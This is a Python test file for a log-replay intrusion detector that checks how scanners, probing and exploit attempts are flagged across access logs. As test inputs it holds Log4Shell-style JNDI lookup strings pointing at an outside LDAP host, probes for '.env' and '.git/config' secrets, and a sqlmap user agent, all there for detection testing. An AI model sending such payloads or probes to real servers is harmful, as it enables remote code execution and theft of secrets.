"""A log through the live rules."""

from __future__ import annotations

from operator import attrgetter

from ip_tracking.detection.bursts import READ_BACK, find, widest_window_us
from ip_tracking.detection.finding import Finding, Severity
from ip_tracking.detection.rules import RULES
from ip_tracking.detection.symptoms import symptoms_of
from ip_tracking.event import to_datetime
from ip_tracking.replay.access_log import parse
from ip_tracking.replay.engine import Replay
from ip_tracking.replay.kept import REPEAT_BYTES, REQUEST_BYTES, Kept
from tests.replay.lines import line


def replayed(*lines: str) -> Replay:
    replay = Replay()
    replay.read(lines, "access.log")
    return replay


def test_a_scanner_is_found_with_the_lines_that_show_it():
    replay = replayed(line("/"), line("/.env"), line("/shop/"), line("/.git/config", at="12:00:01"))

    [suspect] = replay.suspects()

    assert suspect.network == "203.0.113.9"
    assert suspect.severity is Severity.HIGH
    assert suspect.is_flagged
    assert [event.request_id for event in suspect.findings[0].evidence] == ["access.log:2", "access.log:4"]


def test_a_shopper_is_not_a_suspect():
    looks = (line(f"/api/products/{n}/", at=f"12:00:{n:02d}", status=200) for n in range(50))
    replay = replayed(*looks, line("/favicon.ico"))

    assert replay.suspects() == []


def test_lines_are_counted_and_the_first_unparsed_ones_kept():
    replay = replayed(line("/"), "nonsense\n", "\n", *["rubbish\n"] * 9)

    assert (replay.lines, replay.parsed, replay.unparsed) == (11, 1, 10)
    assert replay.unparsed_shown[0] == ("access.log:2", "nonsense")
    assert len(replay.unparsed_shown) == 5


def test_evidence_keeps_the_order_of_the_file_within_a_second():
    lines = [line("/")] * 8 + [line(f"/.env.{name}") for name in "abcdef"]

    [suspect] = replayed(*lines).suspects()

    finding = next(finding for finding in suspect.findings if finding.rule == "sensitive-files")
    assert [event.request_id for event in finding.evidence] == [f"access.log:{n}" for n in range(9, 15)]


def test_lines_of_two_files_count_together():
    replay = Replay()
    replay.read([line("/.env")], "a.log")
    replay.read([line("/.git/config")], "b.log")

    [suspect] = replay.suspects()

    assert [event.request_id for event in suspect.findings[0].evidence] == ["a.log:1", "b.log:1"]


def test_a_file_read_twice_counts_once():
    replay = Replay()
    replay.read([line("/.env")], "a.log")
    replay.read([line("/.env")], "a.log")

    assert replay.suspects() == []


def test_an_exploit_behind_what_a_row_keeps_is_seen():
    replay = replayed(line("/?a=" + "x" * 2_000 + "&b=${jndi:ldap://198.51.100.7/a}", status=200))

    [suspect] = replay.suspects()

    assert len(suspect.findings[0].evidence[0].query) == 512


def test_an_exploit_in_the_referer_is_seen():
    replay = replayed(line("/", status=200, referer="${jndi:ldap://198.51.100.7/a}"))

    assert replay.suspects()[0].findings[0].rule == "exploit-attempt"


def test_suspects_come_with_the_worst_first():
    medium = line("/", network="198.51.100.1", agent="sqlmap/1.8")
    high = line("/?x=${jndi:ldap://a/b}", network="198.51.100.2")

    suspects = replayed(medium, high).suspects()

    assert [suspect.network for suspect in suspects] == ["198.51.100.2", "198.51.100.1"]
    assert [suspect.score for suspect in suspects] == [40, 20]


def test_memory_holds_no_more_than_the_cap_of_an_hour():
    replay = Replay()

    replay.read((line(f"/{'x' * (n % 99)}{n}.env") for n in range(9 * READ_BACK)), "a.log")

    [network] = replay.kept.all()
    assert network.bytes <= 4 * READ_BACK * (REQUEST_BYTES + REPEAT_BYTES)
    assert max(finding.count for finding in replay.suspects()[0].findings) == READ_BACK


def told(replay: Replay) -> list[tuple]:
    return [
        (f.network, f.rule, f.hour_us, f.count, f.first_seen_us, f.last_seen_us, len(f.evidence))
        for suspect in replay.suspects()
        for f in suspect.findings
    ]


def test_the_order_of_lines_changes_nothing():
    """By seconds, as servers write them when requests take long, and by hours, as the shell lists rotated files."""
    lines = [
        line(f"/{n}/x.php", at=f"{12 + n // 60}:{n % 60:02d}:{n * 7 % 60:02d}", network=f"203.0.113.{n % 3}")
        for n in range(180)
    ] + [line(f"/dir{n}/", at=f"12:59:{45 + n}") for n in range(15)]
    jittered = sorted(lines, key=lambda text: (text[24:29], text[-30:]))

    in_order = told(replayed(*lines))

    assert in_order
    assert told(replayed(*reversed(lines))) == in_order
    assert told(replayed(*jittered)) == in_order
    assert told(replayed(*lines[1::2], *lines[::2])) == in_order


def test_a_window_over_lines_out_of_order_holds_only_what_is_in_it():
    """Ten missing paths in sixty seconds are probing; the same ten over sixty-one are not."""
    within = [line(f"/dir{n}/", at=f"12:00:{n * 6:02d}") for n in (9, 3, 0, 7, 1, 8, 2, 6, 4, 5)]
    beyond = [line(f"/dir{n}/", at=f"12:{n * 7 // 60:02d}:{n * 7 % 60:02d}") for n in (9, 3, 0, 7, 1, 8, 2, 6, 4, 5)]

    assert [finding.rule for finding in replayed(*within).suspects()[0].findings] == ["probing"]
    assert replayed(*beyond).suspects() == []


def test_an_attack_over_the_turn_of_an_hour_is_one_attack():
    before = [line(f"/dir{n}/", at=f"12:59:{50 + n}") for n in range(9)]

    [suspect] = replayed(line("/dir9/", at="13:00:05"), *before).suspects()

    assert [(finding.rule, finding.count) for finding in suspect.findings] == [("probing", 10)]


def test_what_was_found_survives_that_room_was_made():
    replay = Replay(kept=Kept(most_bytes=100 * REQUEST_BYTES))
    attack = [line("/.env", at="12:00:01"), line("/.git/config", at="12:00:02")]
    strangers = [line("/gone", network=f"198.51.{n // 250}.{n % 250}") for n in range(500)]

    replay.read([*attack, *strangers], "a.log")

    [suspect] = replay.suspects()
    assert replay.networks_closed > 300
    assert (suspect.network, suspect.findings[0].rule) == ("203.0.113.9", "sensitive-files")
    assert [event.request_id for event in suspect.findings[0].evidence] == ["a.log:1", "a.log:2"]


def test_room_is_made_of_those_seen_least_recently():
    """Only the first and the last of an attacker's requests show what it wants; in between it is merely seen."""
    replay = Replay(kept=Kept(most_bytes=100 * REQUEST_BYTES))
    strangers = [line("/gone", network=f"198.51.{n // 250}.{n % 250}") for n in range(500)]

    replay.read([line("/.env")], "a.log")
    for stranger in strangers:
        replay.read([stranger, line("/gone", at="12:01:00")], "b.log")
    replay.read([line("/.git/config", at="12:02:00")], "c.log")

    [suspect] = replay.suspects()
    assert [event.path for event in suspect.findings[0].evidence] == ["/.env", "/.git/config"]
    assert replay.networks_closed > 300


def test_a_network_judged_in_pieces_has_one_finding_for_each_rule_and_hour():
    replay = Replay(kept=Kept(most_bytes=100 * REQUEST_BYTES))
    replay.read([line(f"/.env.{n}", at=f"12:{n // 60:02d}:{n % 60:02d}") for n in range(600)], "a.log")

    findings = [finding for finding in replay.suspects()[0].findings if finding.rule == "sensitive-files"]

    assert replay.networks_closed > 3
    assert len(findings) == 1
    assert findings[0].evidence[0].request_id == "a.log:1"
    assert to_datetime(findings[0].last_seen_us).minute == 9


def test_a_long_attack_is_judged_in_stretches_with_the_same_findings():
    """Each hour's last seconds and the next one's first make one window."""
    lines = [
        line(f"/{hour}-{minute}-{n}/", at=f"{hour:02d}:{minute:02d}:{n:02d}")
        for hour in range(10)
        for minute, seconds in ((0, range(9)), (30, range(9)), (59, range(51, 60)))
        for n in seconds
    ]
    [network] = replayed(*lines).kept.all()

    def found(most: int) -> list[Finding]:
        stretches = network.stretches(widest_window_us(RULES), most)
        findings = [finding for since_us, events in stretches for finding in find(events, RULES, since_us)]
        return sorted(findings, key=attrgetter("rule", "hour_us"))

    assert len(list(network.stretches(widest_window_us(RULES), most=20))) == 10
    assert found(most=20) == found(most=len(lines))
    assert len(found(most=20)) == 9


def test_a_log_and_live_traffic_come_to_the_same_findings():
    """The same requests as live events: only who counted the requests differs."""
    lines = [line(f"/{name}/{name}.php", at=f"12:00:{second:02d}") for second, name in enumerate("abcdefghijklm")]
    parsed = [parse(text).event for text in lines]
    live = [event._replace(request_id=f"r{n}", symptoms=symptoms_of(event)) for n, event in enumerate(parsed)]

    [suspect] = replayed(*lines).suspects()

    def told(findings):
        return [(f.network, f.rule, f.hour_us, f.count, f.first_seen_us, f.last_seen_us) for f in findings]

    assert told(suspect.findings) == told(find(live, RULES))
